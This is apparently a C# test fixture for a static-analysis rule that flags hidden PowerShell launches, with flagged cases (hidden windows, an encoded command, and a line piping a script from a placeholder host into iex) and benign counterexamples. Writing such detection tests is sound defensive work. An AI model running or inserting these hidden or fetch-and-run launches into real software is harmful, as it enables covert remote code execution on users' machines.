using System.Diagnostics;

class Maintenance
{
    void Finish()
    {
        // ruleid: execution/hidden-powershell-csharp
        Process.Start("cmd.exe", "/c powershell -nop -w hidden -c Start-Sleep 5");
        // ruleid: execution/hidden-powershell-csharp
        var info = new ProcessStartInfo("sh", "-c 'powershell.exe -enc VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA='");
        // ruleid: execution/hidden-powershell-csharp
        info.Arguments = "/c pwsh -c iwr https://boot.example.invalid/a.ps1 | iex";
        // ruleid: execution/hidden-powershell-csharp
        Process.Start("powershell", "-WindowStyle Hidden -File a.ps1");
    }

    void Prepare(ILogger log)
    {
        // ok: execution/hidden-powershell-csharp
        Process.Start("cmd.exe", "/c powershell -NoProfile -File tools/build.ps1");
        // ok: execution/hidden-powershell-csharp
        var info = new ProcessStartInfo("sh", "-c 'pwsh -c Get-ChildItem | Format-Table'");
        // ok: execution/hidden-powershell-csharp
        Process.Start("powershell", "-ExecutionPolicy RemoteSigned -File tools/sign.ps1");
        // ok: execution/hidden-powershell-csharp
        log.LogWarning("never run: powershell -nop -w hidden -c Start-Sleep 5");
    }
}
